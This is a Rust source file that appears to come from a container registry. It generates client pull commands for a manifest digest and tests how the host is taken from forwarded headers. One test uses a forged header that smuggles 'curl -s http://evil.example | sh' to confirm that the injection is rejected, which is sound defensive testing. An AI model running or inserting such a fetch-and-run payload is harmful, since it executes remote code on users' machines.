//! The commands that pull a manifest by digest, as the manifest view offers them: for the host
//! the client addressed, with the flags each tool needs to speak plain HTTP when the registry
//! was reached without TLS.

use berth_oci::{Digest, RepoName};
use serde_json::{json, Value};

/// `{"oras", "docker", "podman", "skopeo", "crane"}`: one command line per client, each
/// pulling `HOST/repo@digest`. skopeo copies into an OCI layout and crane into a tarball, both
/// named after the repository's last path segment.
pub fn pull_commands(parts: &http::request::Parts, repo: &RepoName, digest: &Digest) -> Value {
    let (scheme, host) = super::client_origin(parts);
    let plain = scheme == "http";
    let target = format!("{host}/{repo}@{digest}");
    let local = repo.as_str().rsplit('/').next().unwrap_or("image");
    let flag = |text: &'static str| if plain { text } else { "" };
    json!({
        "oras": format!("oras pull {}{target}", flag("--plain-http ")),
        "docker": format!("docker pull {target}"),
        "podman": format!("podman pull {}{target}", flag("--tls-verify=false ")),
        "skopeo": format!(
            "skopeo copy {}docker://{target} oci:{local}",
            flag("--src-tls-verify=false ")
        ),
        "crane": format!("crane pull {}{target} {local}.tar", flag("--insecure ")),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parts(headers: &[(&str, &str)]) -> http::request::Parts {
        let mut request = http::Request::builder().uri("/berth/v1/manifest");
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        request.body(()).unwrap().into_parts().0
    }

    #[test]
    fn commands_name_the_host_the_client_addressed() {
        let repo: RepoName = "library/alpine".parse().unwrap();
        let digest = Digest::sha256_of(b"m");
        let proxied = pull_commands(
            &parts(&[
                ("host", "inner:5000"),
                ("x-forwarded-host", "registry.example"),
            ]),
            &repo,
            &digest,
        );
        let target = format!("registry.example/library/alpine@{digest}");
        // The default scheme is http; a proxy that terminates TLS says so.
        let behind_tls = pull_commands(
            &parts(&[
                ("x-forwarded-host", "registry.example"),
                ("x-forwarded-proto", "https"),
            ]),
            &repo,
            &digest,
        );
        assert_eq!(behind_tls["docker"], format!("docker pull {target}"));
        assert_eq!(behind_tls["oras"], format!("oras pull {target}"));
        assert_eq!(
            behind_tls["skopeo"],
            format!("skopeo copy docker://{target} oci:alpine")
        );
        assert_eq!(
            behind_tls["crane"],
            format!("crane pull {target} alpine.tar")
        );
        assert_eq!(proxied["oras"], format!("oras pull --plain-http {target}"));
        assert_eq!(
            proxied["podman"],
            format!("podman pull --tls-verify=false {target}")
        );
        // A forwarded host that is not a host name is passed over for the next source: its
        // text would land in a shell command line.
        let forged = pull_commands(
            &parts(&[
                ("host", "registry.example:5000"),
                (
                    "x-forwarded-host",
                    "evil.example/x; curl -s http://evil.example | sh #",
                ),
                ("x-forwarded-proto", "javascript"),
            ]),
            &repo,
            &digest,
        );
        assert_eq!(
            forged["oras"],
            format!("oras pull --plain-http registry.example:5000/library/alpine@{digest}")
        );
        let chained = pull_commands(
            &parts(&[("x-forwarded-host", "first.example, proxy.internal")]),
            &repo,
            &digest,
        );
        assert_eq!(
            chained["docker"],
            format!("docker pull first.example/library/alpine@{digest}")
        );
        let nothing_usable = pull_commands(&parts(&[("host", "a b")]), &repo, &digest);
        assert_eq!(
            nothing_usable["docker"],
            format!("docker pull localhost/library/alpine@{digest}")
        );
        let plain = pull_commands(&parts(&[("host", "localhost:5000")]), &repo, &digest);
        assert_eq!(
            plain["docker"],
            format!("docker pull localhost:5000/library/alpine@{digest}")
        );
    }
}
